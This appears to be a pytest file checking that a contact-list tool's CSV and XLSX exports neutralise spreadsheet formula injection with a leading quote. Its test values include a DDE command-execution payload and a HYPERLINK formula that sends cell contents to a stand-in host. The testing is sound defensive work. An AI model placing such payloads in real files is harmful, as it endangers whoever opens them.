"""Spreadsheet formula injection: text a spreadsheet would run as a formula (``=…``, ``+…``,
``-…``, ``@…``, a leading tab or carriage return) is written with a leading ``'`` by every
.csv/.xlsx writer of the contact lists (member export, rejected-rows file), .xlsx text cells are
never formulas, and the import reads its own export back unchanged."""

from __future__ import annotations

import pytest

from broadcast.recipients.groups import add_group
from broadcast.recipients.importer import ImportOptions, import_members
from broadcast.recipients.members import add_member, export_members, list_members
from broadcast.workspace import Workspace
from tests.helpers.files import read_csv, write_csv

EVIL = ["=1+1", "@SUM(1+1)", "+SUM(1+1)", "-2+3", "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")",
        "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_text_gets_a_leading_quote_and_comes_back(value: str) -> None:
    from broadcast.recipients.files import spreadsheet_safe, unescape_cell

    safe = spreadsheet_safe(value)
    assert safe == "'" + value
    assert unescape_cell(safe) == value


@pytest.mark.parametrize("value", ["张三", "", "'quoted", "a=b", " =1", "+8613805141234", "-1", 13805141234,
                                   -5, 1.5, None, True])
def test_other_values_are_written_as_they_are(value: object) -> None:
    """A sign followed only by digits (an E.164 number, an error code) can call no function
    and reference nothing: it is left as it is, so phone columns carry no quote."""
    from broadcast.recipients.files import spreadsheet_safe, unescape_cell

    assert spreadsheet_safe(value) == value
    assert unescape_cell(value) == value


def _text_xlsx(path, headers: list[str], rows: list[list[str]]):
    """An .xlsx whose cells are all text (as typed with a leading ' in Excel), never formulas."""
    from openpyxl import Workbook

    wb = Workbook()
    sheet = wb.active
    for r, values in enumerate([headers, *rows], 1):
        for c, value in enumerate(values, 1):
            cell = sheet.cell(r, c)
            cell.value = value
            cell.data_type = "s"
    wb.save(path)
    return path


def _xlsx_rows(path) -> list[list[object]]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    try:
        sheet = wb.worksheets[0]
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        return [[c.value for c in row] for row in sheet.iter_rows()]
    finally:
        wb.close()


@pytest.fixture
def evil_members(ws: Workspace) -> Workspace:
    add_group(ws, "=城南社区党支部")
    add_group(ws, "青石村党支部")
    add_member(ws, "@SUM(1+1)", "13805141234", ["=城南社区党支部"], title="=1+1", notes="-2+3")
    add_member(ws, "+cmd|' /C calc'!A0", "13905141234", ["青石村党支部"], notes="=HYPERLINK(\"http://x.example\")")
    add_member(ws, "张三", "13705141234", ["青石村党支部"], title="书记", notes="a=b")
    return ws


EXPECTED_EXPORT = [
    ["'+cmd|' /C calc'!A0", "+8613905141234", "青石村党支部", "", "'=HYPERLINK(\"http://x.example\")"],
    ["'@SUM(1+1)", "+8613805141234", "'=城南社区党支部", "'=1+1", "'-2+3"],
    ["张三", "+8613705141234", "青石村党支部", "书记", "a=b"],
]


def test_member_export_csv_neutralises_formulas(evil_members: Workspace, tmp_path) -> None:
    out = tmp_path / "members.csv"
    assert export_members(evil_members, out) == 3
    rows = read_csv(out, "utf-8-sig")
    assert rows[0] == ["姓名", "手机号码", "所属支部", "职务", "备注", "邮箱", "企业微信", "钉钉", "飞书"]
    assert sorted(r[:5] for r in rows[1:]) == sorted(EXPECTED_EXPORT)
    assert all(r[5:] == ["", "", "", ""] for r in rows[1:])  # no email or ids


def test_member_export_xlsx_neutralises_formulas(evil_members: Workspace, tmp_path) -> None:
    out = tmp_path / "members.xlsx"
    assert export_members(evil_members, out) == 3
    rows = _xlsx_rows(out)
    assert sorted([["" if v is None else v for v in r[:5]] for r in rows[1:]]) == sorted(EXPECTED_EXPORT)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_gives_the_same_members(evil_members: Workspace, tmp_path, suffix: str) -> None:
    out = tmp_path / f"members{suffix}"
    export_members(evil_members, out)
    before = [m.to_dict() for m in list_members(evil_members)]
    again = import_members(evil_members, out, ImportOptions(group_column="所属支部"))
    assert (again.rejected, again.conflicts, again.unchanged, again.updated) == (0, 0, 3, 0)
    assert [m.to_dict() for m in list_members(evil_members)] == before
    # and into a database that has never seen them
    other = Workspace.open(evil_members.settings.model_copy(
        update={"database_url": f"sqlite:///{tmp_path / 'other.db'}"}))
    try:
        fresh = import_members(other, out, ImportOptions(group_column="所属支部", create_groups=True))
        assert (fresh.added, fresh.rejected) == (3, 0)
        assert sorted(fresh.groups_created) == ["=城南社区党支部", "青石村党支部"]
        got = {(m.name, m.phone, tuple(m.groups), m.title, m.notes) for m in list_members(other)}
        assert got == {(m["name"], m["phone"], tuple(m["groups"]), m["title"], m["notes"]) for m in before}
    finally:
        other.engine.dispose()


def test_an_e164_phone_cell_is_left_as_it_is_and_a_quoted_one_imports(ws: Workspace, tmp_path) -> None:
    add_group(ws, "青石村党支部")
    f = write_csv(tmp_path / "in.csv", [["'+8613805141234", "'=王五", "青石村党支部"]],
                  headers=["手机号码", "姓名", "所属支部"])
    s = import_members(ws, f)
    assert (s.added, s.rejected) == (1, 0)
    assert [(m.phone, m.name) for m in list_members(ws)] == [("+8613805141234", "=王五")]


ROWS = [
    ["=HYPERLINK(\"http://x.example\")", "1.38051E+10", "青石村党支部", "@SUM(1+1)"],
    ["\t=1+1", "0514-84683100", "青石村党支部", "-2+3"],
    ["张三", "13805141234", "青石村党支部", "+1"],
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejected_rows_file_neutralises_formulas(ws: Workspace, tmp_path, suffix: str) -> None:
    add_group(ws, "青石村党支部")
    headers = ["姓名", "手机号码", "所属支部", "=备注"]
    if suffix == ".csv":
        src = write_csv(tmp_path / "in.csv", ROWS, headers=headers)
    else:
        src = _text_xlsx(tmp_path / "in.xlsx", headers, ROWS)
    out = tmp_path / f"fix-me{suffix}"
    s = import_members(ws, src, ImportOptions(errors_out=out))
    assert (s.added, s.rejected) == (1, 2)
    rows = read_csv(out, "utf-8-sig") if suffix == ".csv" else [
        ["" if v is None else v for v in r] for r in _xlsx_rows(out)]
    assert rows[0] == ["姓名", "手机号码", "所属支部", "'=备注", "reason"]
    assert [r[:4] for r in rows[1:]] == [
        ["'=HYPERLINK(\"http://x.example\")", "1.38051E+10", "青石村党支部", "'@SUM(1+1)"],
        ["'\t=1+1", "0514-84683100", "青石村党支部", "'-2+3"],
    ]
